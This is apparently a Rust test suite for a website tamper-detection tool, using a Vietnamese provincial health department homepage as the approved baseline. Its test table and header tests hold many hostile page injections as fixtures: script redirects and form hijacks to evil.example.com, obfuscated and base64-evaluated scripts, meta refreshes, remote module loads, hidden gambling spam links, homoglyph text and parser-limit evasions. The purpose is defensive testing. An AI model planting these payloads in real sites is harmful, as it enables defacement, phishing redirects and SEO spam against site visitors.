//! An honest page and one change by somebody who knows how watches look. Each is seen, or written down here as one that is not.

use pages::{Limits, PageModel, Source, add_headers, parse};
use watch::{
    Approval, Approver, Depth, Ground, Look, Means, PageMemory, Reason, SiteMemory, Verdict, check,
    judge,
};

use crate::serving::{Site, web};
use crate::verdicts::site;

const URL: &str = "https://syt.example.gov.vn/";
const PAGE: &str = "<!doctype html><html lang=vi><head><meta charset=utf-8><title>Sở Y tế tỉnh A</title>
<link rel=canonical href=/><link rel=icon href=/i.png><meta property=og:url content=https://syt.example.gov.vn/>
<meta name=description content='Cổng thông tin Sở Y tế tỉnh A'>
<script type=application/ld+json>{\"@context\":\"https://schema.org\",\"@type\":\"GovernmentOrganization\",\"name\":\"Sở Y tế tỉnh A\",\"url\":\"https://syt.example.gov.vn/\"}</script>
<style>.an{display:none} .mo::before{content:'Mở trang này'}</style><!--head--></head><body><header><img src=/logo.png><h1>Sở Y tế tỉnh A</h1></header>
<nav><a href=/>Trang chủ</a><a href=/tin>Tin tức</a></nav><!--body-->
<main><h2>Tin mới</h2><ul class=tin><li><a href=/1>Hội nghị triển khai nhiệm vụ năm 2026</a><li><a href=/2>Lịch tiêm chủng tháng 8</a>
<li><a href=/3>Thông báo tuyển dụng viên chức</a></ul><p class=gioi-thieu>Sở là cơ quan chuyên môn thuộc Uỷ ban nhân dân tỉnh.</p></main>
<form action=/tim><input name=q placeholder='Tìm kiếm'><input type=submit value='Tìm'></form>
<svg viewBox='0 0 9 9'><title>Biểu tượng</title><path d='M0 0h9'/></svg>
<div class=an>Trình đơn <a href=/so-do>Sơ đồ trang</a></div><script src=/js/site.js></script><script>var t='abc';bat(t,1);</script>
<footer>Địa chỉ: 1 Lê Lợi</footer></body></html>";

fn read(markup: &[u8], content_type: &str, headers: &[(&str, &str)]) -> PageModel {
    let source = Source {
        url: URL,
        content_type: Some(content_type),
        body: markup,
        style_sheets: &[],
    };
    let mut page = parse(&source, &Limits::default());
    let headers: Vec<(String, String)> = headers
        .iter()
        .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
        .collect();
    add_headers(&mut page, URL, Some(content_type), &headers);
    page
}

fn judged(page: &PageModel, status: u16) -> (Verdict, Vec<Reason>) {
    let site = site();
    let memory = PageMemory::begin(Approval {
        page: read(PAGE.as_bytes(), "text/html", &[]),
        approver: Approver::default(),
    });
    let mut known = SiteMemory {
        facts: site.clone(),
        ..SiteMemory::default()
    };
    known.words.learn(&memory.approved[0].page);
    let look = Look {
        page,
        status,
        site: &site,
    };
    let judgement = judge(&Ground::new(&known, &memory, None), &look);
    (judgement.verdict, judgement.reasons)
}

fn with(at: &str, what: &str) -> String {
    assert!(PAGE.contains(at), "{at}");
    PAGE.replacen(at, &format!("{at}{what}"), 1)
}

fn instead(from: &str, to: &str) -> String {
    assert!(PAGE.contains(from), "{from}");
    PAGE.replacen(from, to, 1)
}

/// Changes of the markup, each with its name.
#[expect(clippy::too_many_lines, reason = "a table, one change in each row")]
fn changes() -> Vec<(&'static str, String)> {
    let (head, body) = ("<!--head-->", "<!--body-->");
    let list = "<ul class=tin>";
    let far = "https://evil.example.com";
    vec![
        (
            "a script in an attribute with a page",
            with(
                body,
                "<iframe srcdoc=\"<script>top.location='https://evil.example.com/'</script>\"></iframe>",
            ),
        ),
        (
            "a script in a page in an address",
            with(
                body,
                "<iframe src=\"data:text/html,<script>top.location='https://evil.example.com/'</script>\"></iframe>",
            ),
        ),
        (
            "the same in an object",
            with(
                body,
                "<object data=\"data:text/html;base64,PHNjcmlwdD50b3AubG9jYXRpb249J2h0dHBzOi8vZXZpbC5leGFtcGxlLmNvbS8nPC9zY3JpcHQ+\"></object>",
            ),
        ),
        (
            "the same in an embed",
            with(
                body,
                "<embed src='data:text/html,<form action=https://evil.example.com/><input name=p></form>'>",
            ),
        ),
        (
            "a page in a page in a page",
            with(
                body,
                "<iframe srcdoc=\"<iframe srcdoc='<form action=https://evil.example.com/>'></iframe>\"></iframe>",
            ),
        ),
        (
            "a shadow that is declared",
            with(
                body,
                "<div><template shadowrootmode=open><a href=https://evil.example.com/>Vay tiền nhanh</a></template></div>",
            ),
        ),
        (
            "a template",
            with(
                body,
                "<template><a href=https://evil.example.com/>x</a></template>",
            ),
        ),
        (
            "only without scripts",
            with(
                body,
                "<noscript><a href=https://evil.example.com/>x</a></noscript>",
            ),
        ),
        (
            "another base",
            with(head, "<base href=https://evil.example.com/>"),
        ),
        (
            "a base that is a script's",
            with(head, "<base href=//evil.example.com/js/>"),
        ),
        (
            "a drawing's script",
            with(
                body,
                "<svg><script href=https://evil.example.com/x.js></script></svg>",
            ),
        ),
        (
            "a drawing's script of old",
            with(
                body,
                "<svg><script xlink:href=https://evil.example.com/x.js></script></svg>",
            ),
        ),
        (
            "a drawing's handler",
            with(
                body,
                "<svg onload=\"location='https://evil.example.com/'\"></svg>",
            ),
        ),
        (
            "a drawing's link to a script",
            with(
                body,
                "<svg><a xlink:href=\"javascript:location='https://evil.example.com/'\"><text y=9>Xem</text></a></svg>",
            ),
        ),
        (
            "a link that becomes another",
            with(
                body,
                "<svg><a><set attributeName=href to=\"javascript:location='https://evil.example.com/'\"/><text y=9>Xem</text></a></svg>",
            ),
        ),
        (
            "a link that becomes another by and by",
            with(
                body,
                "<svg><a><animate attributeName=href values=\"https://evil.example.com/\"/><text y=9>Xem</text></a></svg>",
            ),
        ),
        (
            "a formula's link",
            with(
                body,
                "<math href=\"javascript:location='https://evil.example.com/'\"><mi>x</mi></math>",
            ),
        ),
        (
            "a picture's handler",
            with(body, "<img src=x onerror=\"eval(atob('YQ=='))\">"),
        ),
        (
            "a link that is a script",
            instead(
                "href=/tin",
                "href=\"javascript:location='https://evil.example.com/'\"",
            ),
        ),
        (
            "the same with spaces in it",
            instead(
                "href=/tin",
                "href=\"java&#10;script:location='https://evil.example.com/'\"",
            ),
        ),
        (
            "a button that sends elsewhere",
            instead(
                "type=submit",
                "type=submit formaction=https://evil.example.com/",
            ),
        ),
        (
            "a form that sends elsewhere",
            instead("action=/tim", "action=https://evil.example.com/tim"),
        ),
        (
            "a list of modules",
            with(
                head,
                "<script type=importmap>{\"imports\":{\"a\":\"https://evil.example.com/a.js\"}}</script>",
            ),
        ),
        (
            "a module",
            with(
                head,
                "<script type=module>import 'https://evil.example.com/a.js'</script>",
            ),
        ),
        (
            "rules for what comes next",
            with(
                head,
                "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"https://evil.example.com/\"]}]}</script>",
            ),
        ),
        (
            "a worker that stays",
            instead(
                "bat(t,1);",
                "bat(t,1);navigator.serviceWorker.register('/sw.js');",
            ),
        ),
        (
            "a refresh",
            with(
                head,
                "<meta http-equiv=refresh content='0;url=https://evil.example.com/'>",
            ),
        ),
        (
            "a refresh without a word",
            with(
                head,
                "<meta http-equiv=ReFresh content=\"0, 'https://evil.example.com/'\">",
            ),
        ),
        (
            "a refresh with a semicolon only",
            with(
                head,
                "<meta http-equiv=refresh content='1;https://evil.example.com/'>",
            ),
        ),
        (
            "a refresh without a sign between",
            with(
                head,
                "<meta http-equiv=refresh content='1 url=https://evil.example.com/'>",
            ),
        ),
        (
            "a refresh in the body",
            with(
                body,
                "<meta http-equiv=refresh content='0;url=//evil.example.com/'>",
            ),
        ),
        (
            "another true address",
            instead(
                "rel=canonical href=/",
                "rel=canonical href=https://evil.example.com/",
            ),
        ),
        (
            "another page in another language",
            with(
                head,
                "<link rel=alternate hreflang=vi href=https://evil.example.com/>",
            ),
        ),
        (
            "a picture for those who share",
            with(
                head,
                "<meta property=og:image content=https://evil.example.com/x.png>",
            ),
        ),
        (
            "an address for those who share",
            instead(
                "og:url content=https://syt.example.gov.vn/",
                "og:url content=https://evil.example.com/",
            ),
        ),
        (
            "a description for search",
            instead(
                "Cổng thông tin Sở Y tế tỉnh A",
                "Nhà cái uy tín số 1, tài xỉu online",
            ),
        ),
        (
            "an address in a description for search",
            instead(
                "\"url\":\"https://syt.example.gov.vn/\"",
                "\"url\":\"https://evil.example.com/\"",
            ),
        ),
        (
            "a name in a description for search",
            instead(
                "\"name\":\"Sở Y tế tỉnh A\"",
                "\"name\":\"Nhà cái uy tín, tài xỉu online\"",
            ),
        ),
        (
            "somebody else who owns the site",
            with(
                head,
                "<meta name=google-site-verification content=abcDEF123ghiJKL>",
            ),
        ),
        (
            "nobody may find the site",
            with(
                head,
                "<meta name=robots content='noindex, nofollow, noarchive'>",
            ),
        ),
        (
            "a frame by rules",
            with(head, "<link rel=prerender href=https://evil.example.com/>"),
        ),
        (
            "code that is loaded before",
            with(
                head,
                "<link rel=modulepreload href=https://evil.example.com/a.js>",
            ),
        ),
        (
            "a style sheet",
            with(
                head,
                "<link rel=stylesheet href=https://evil.example.com/a.css>",
            ),
        ),
        (
            "a style sheet in a style sheet",
            with(
                head,
                "<style>@import 'https://evil.example.com/a.css';</style>",
            ),
        ),
        (
            "letters of another kind",
            with(
                head,
                "<style>@font-face{font-family:x;src:url(https://evil.example.com/a.woff2)}</style>",
            ),
        ),
        (
            "a text that a style sheet writes",
            with(
                head,
                "<style>h1::after{content:'Bị tấn công bởi đội X'}</style>",
            ),
        ),
        (
            "a text that a style sheet takes from an attribute",
            with(head, "<style>h1::after{content:attr(data-x)}</style>").replacen(
                "<h1>",
                "<h1 data-x='Bị tấn công bởi đội X'>",
                1,
            ),
        ),
        (
            "a text where something is typed",
            instead("placeholder='Tìm kiếm'", "placeholder='Hacked by X'"),
        ),
        (
            "a text on a button",
            instead("value='Tìm'", "value='Hacked by X'"),
        ),
        (
            "a text at the end of a long one",
            instead(
                "nhân dân tỉnh.",
                &format!(
                    "nhân dân tỉnh. {} nhà cái uy tín, tài xỉu online",
                    "Sở là cơ quan chuyên môn thuộc Uỷ ban. ".repeat(40)
                ),
            ),
        ),
        (
            "a text at the end of a long hidden one",
            instead(
                "Trình đơn",
                &format!(
                    "Trình đơn {} nhà cái uy tín, tài xỉu online",
                    "Sở là cơ quan chuyên môn. ".repeat(60)
                ),
            ),
        ),
        (
            "a second title",
            with(body, "<title>Nhà cái uy tín, tài xỉu online</title>"),
        ),
        (
            "a title behind a drawing's",
            instead("<title>Sở Y tế tỉnh A</title>", "").replacen(
                body,
                "<svg><title>Sở Y tế tỉnh A</title></svg><title>Hacked by X</title>",
                1,
            ),
        ),
        (
            "words with spaces of no width",
            with(
                list,
                "<li>Nh\u{200b}à c\u{200b}ái u\u{200b}y t\u{200b}ín, t\u{200b}ài x\u{200b}ỉu",
            ),
        ),
        (
            "words in letters of another writing",
            with(list, "<li>Nhà cáі uу tín, tàі хỉu оnline"),
        ),
        (
            "words written from the right",
            with(list, "<li>\u{202e}xỉu iàt ,nít yu iác àhN\u{202c}"),
        ),
        (
            "words with a dot in each",
            with(list, "<li>n.h.à c.á.i t.à.i x.ỉ.u"),
        ),
        (
            "words in letters for formulas",
            with(list, "<li>𝐧𝐡à 𝐜á𝐢 𝐮𝐲 𝐭í𝐧, 𝐭à𝐢 𝐱ỉ𝐮 𝐨𝐧𝐥𝐢𝐧𝐞"),
        ),
        (
            "a script that writes in pieces",
            instead(
                "bat(t,1);",
                "bat(t,1);document['wri'+'te']('<scr'+'ipt src=//evil.exam'+'ple.com/x.js></scr'+'ipt>');",
            ),
        ),
        (
            "a script that goes elsewhere in pieces",
            instead(
                "bat(t,1);",
                "bat(t,1);window['loca'+'tion']=['ht','tps:/','/evil.example','.com/'].join('');",
            ),
        ),
        (
            "a script that builds a script",
            instead(
                "bat(t,1);",
                "bat(t,1);new Function(atob('YWxlcnQoMSk='))();",
            ),
        ),
        (
            "a script after half a million letters",
            with(
                body,
                &format!(
                    "<script>/*{}*/location='https://evil.example.com/'</script>",
                    " a".repeat(300_000)
                ),
            ),
        ),
        (
            "off the screen",
            with(
                list,
                "<li style=position:absolute;left:-9999px><a href=https://evil.example.com/>x</a>",
            ),
        ),
        (
            "of no height",
            with(
                list,
                "<li style='height:0;overflow:hidden'><a href=https://evil.example.com/>x</a>",
            ),
        ),
        (
            "in letters of nothing",
            with(
                list,
                "<li style=font-size:0><a href=https://evil.example.com/>x</a>",
            ),
        ),
        (
            "cut away",
            with(
                list,
                "<li style='position:absolute;clip:rect(0,0,0,0)'><a href=https://evil.example.com/>x</a>",
            ),
        ),
        (
            "in white on white",
            with(
                list,
                "<li style=color:#fff><a href=https://evil.example.com/ style=color:#fff>x</a>",
            ),
        ),
        (
            "hidden for a screen of any size",
            with(
                body,
                "<style>@media(min-width:1px){.z{display:none}}</style><p class=z><a href=https://evil.example.com/>x</a></p>",
            ),
        ),
        (
            "hidden by a rule in a rule",
            with(
                body,
                "<style>body{.z{display:none}}</style><p class=z><a href=https://evil.example.com/>x</a></p>",
            ),
        ),
        (
            "moved away",
            with(
                list,
                "<li style='transform:translateX(-9999px)'><a href=https://evil.example.com/>x</a>",
            ),
        ),
        (
            "an old frame",
            with(
                body,
                "<object type=text/html data=https://evil.example.com/></object>",
            ),
        ),
        (
            "a frame of tomorrow",
            with(
                body,
                "<fencedframe src=https://evil.example.com/></fencedframe>",
            ),
        ),
        (
            "a frame that waits",
            with(
                body,
                "<iframe loading=lazy data-src=https://evil.example.com/></iframe>",
            ),
        ),
        (
            "a cover",
            with(
                body,
                "<div style='position:fixed;inset:0;z-index:9;background:#000'><img src=https://evil.example.com/x.gif></div>",
            ),
        ),
        (
            "a background with words",
            instead(
                "<body>",
                "<body style='background:url(https://evil.example.com/x.png) fixed'>",
            ),
        ),
        (
            "a picture from elsewhere",
            with(body, &format!("<img src={far}/x.png>")),
        ),
        (
            "more than is read",
            with(
                "</footer>",
                &format!("{}<p>Hacked by X", "<p>x".repeat(250_000)),
            ),
        ),
        (
            "deeper than is read",
            with(
                body,
                &format!("{}<h1>Hacked by X</h1>", "<div>".repeat(600)),
            ),
        ),
        (
            "an element of a thousand attributes",
            with(
                body,
                &format!(
                    "<b {}>x</b><h1>Hacked by X</h1>",
                    (0..1_000).fold(String::new(), |all, one| all + &format!("a{one} "))
                ),
            ),
        ),
    ]
}

#[test]
fn one_change_of_the_markup_is_seen_whatever_it_is() {
    let mut unseen = Vec::new();
    for (name, markup) in changes() {
        let page = read(markup.as_bytes(), "text/html", &[]);
        let (verdict, _) = judged(&page, 200);
        // A page that is read in part is judged as that by the check around it.
        if !verdict.wants_person() && !page.is_cut {
            unseen.push((name, verdict));
        }
    }
    assert!(unseen.is_empty(), "{unseen:#?}");
}

#[test]
fn the_honest_page_is_unchanged() {
    let page = read(PAGE.as_bytes(), "text/html; charset=utf-8", &[]);
    assert_eq!(judged(&page, 200).0, Verdict::Unchanged);
}

#[test]
fn what_headers_do_is_seen() {
    for header in [
        ("refresh", "0; url=https://evil.example.com/"),
        ("refresh", "1;//evil.example.com/"),
        ("link", "<https://evil.example.com/a.css>; rel=stylesheet"),
        (
            "link",
            "</ok>; rel=next, <https://evil.example.com/>; rel=\"canonical\"",
        ),
        ("x-robots-tag", "noindex, nofollow, noarchive"),
        ("content-disposition", "attachment; filename=update.exe"),
    ] {
        let page = read(PAGE.as_bytes(), "text/html", &[header]);
        let (verdict, reasons) = judged(&page, 200);
        assert!(verdict.wants_person(), "{header:?} {reasons:?}");
    }
    for other in ["text/plain", "application/octet-stream", "image/png"] {
        let page = read(PAGE.as_bytes(), other, &[]);
        assert!(judged(&page, 200).0.wants_person(), "{other}");
    }
}

#[test]
fn encodings_that_browsers_read_otherwise_are_read_as_browsers_do() {
    let said = "<p>Hacked by X, nhà cái uy tín</p>";
    let markup = with("<!--body-->", said);
    // Named in a comment only, where no browser looks.
    let decoy = markup.replacen("<head>", "<head><!-- <meta charset=ibm866> -->", 1);
    // Named in markup that could not be read if it were true.
    let wide = markup.replacen("<meta charset=utf-8>", "<meta charset=utf-16le>", 1);
    // Unknown, so that it is guessed.
    let seven = markup.replacen("<meta charset=utf-8>", "<meta charset=utf-7>", 1);
    for markup in [decoy, wide, seven] {
        let page = read(markup.as_bytes(), "text/html", &[]);
        assert!(page.lines().any(|line| line.contains("nhà cái uy tín")));
        assert!(judged(&page, 200).0.is_alarm());
    }
    let bytes: Vec<u8> = markup.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let page = read(&bytes, "text/html; charset=utf-16le", &[]);
    assert!(judged(&page, 200).0.is_alarm());
}

#[test]
fn a_status_of_fault_hides_nothing_that_leads_away() {
    for what in [
        "<script>location='https://evil.example.com/'</script>",
        "<meta http-equiv=refresh content='0;url=https://evil.example.com/'>",
        "<iframe src=https://evil.example.com/></iframe>",
        "<h1>Hacked by X</h1>",
    ] {
        let page = read(what.as_bytes(), "text/html", &[]);
        for status in [404, 503] {
            let (verdict, reasons) = judged(&page, status);
            assert!(verdict.wants_person(), "{what} {reasons:?}");
        }
    }
    let honest = read(b"<h1>503 Service Unavailable</h1>", "text/html", &[]);
    let (verdict, reasons) = judged(&honest, 503);
    assert_eq!(verdict, Verdict::FaultPage, "{reasons:?}");
}

/// What `docs/watch.md` says that it cannot see. Whoever mends one of these moves it up and takes it out there.
#[test]
fn what_is_not_seen_is_written_down() {
    for (name, markup) in [
        (
            "another text of the same form in a script",
            instead("var t='abc'", "var t='/dang-nhap-gia'"),
        ),
        (
            "ordinary words where words are ordinary",
            instead("Lịch tiêm chủng tháng 8", "Lịch tiêm chủng tháng 9"),
        ),
        (
            "a link within a list",
            instead("href=/2", "href=https://syt.example.gov.vn/tap-tin-xau"),
        ),
    ] {
        let page = read(markup.as_bytes(), "text/html", &[]);
        assert!(!judged(&page, 200).0.wants_person(), "{name} is seen now");
    }
}

/// Puts the honest page there, and a person approves it.
async fn approved(site: &Site, means: &Means<'_>) -> SiteMemory {
    site.put("/", "text/html", PAGE);
    let mut memory = SiteMemory::default();
    let first = check(means, &site.url("/"), &memory, None, Depth::Whole).await;
    memory.approve(&first, &Approver::default());
    memory
}

#[tokio::test]
async fn a_page_beyond_the_limits_is_never_fine() {
    let site = Site::open();
    let url = site.url("/");
    let means_web = web();
    let means = Means::new(&means_web, jiff::Timestamp::UNIX_EPOCH);
    let mut memory = approved(&site, &means).await;
    let long = format!("{PAGE}<!--{}--><h1>Hacked by X", " ".repeat(5_000_000));
    site.put("/", "text/html", long.clone());
    let found = check(&means, &url, &memory, None, Depth::Whole).await;
    let said = &found.judgement;
    assert_eq!(said.verdict, Verdict::Unexplained, "{said:?}");
    assert!(found.judgement.reasons.contains(&Reason::NotWhole));
    // Once approved it is asked about no more, and still not fine.
    memory.approve(&found, &Approver::default());
    let again = check(&means, &url, &memory, None, Depth::Whole).await;
    assert_eq!(again.judgement.verdict, Verdict::Nothing);
}

#[tokio::test]
async fn a_page_that_breaks_off_is_judged_by_what_came() {
    let site = Site::open();
    let url = site.url("/");
    let means_web = web();
    let means = Means::new(&means_web, jiff::Timestamp::UNIX_EPOCH);
    let memory = approved(&site, &means).await;
    // The first length counts for a browser that shows what comes.
    let broken = "text/html\r\nTransfer-Encoding: chunked\r\nX-Ignored: y";
    let pieces = |text: &str| format!("{:x}\r\n{text}\r\n", text.len());
    site.put(
        "/",
        broken,
        pieces("<h1>Hacked by X, nhà cái uy tín</h1><p>"),
    );
    let found = check(&means, &url, &memory, None, Depth::Whole).await;
    assert!(found.judgement.verdict.is_alarm(), "{:?}", found.judgement);
    // The honest page that breaks off is a fault of the site and nobody's attack.
    site.put(
        "/",
        broken,
        pieces(&PAGE[..PAGE.floor_char_boundary(1_500)]),
    );
    let found = check(&means, &url, &memory, None, Depth::Whole).await;
    assert_eq!(found.judgement.verdict, Verdict::FaultPage);
}
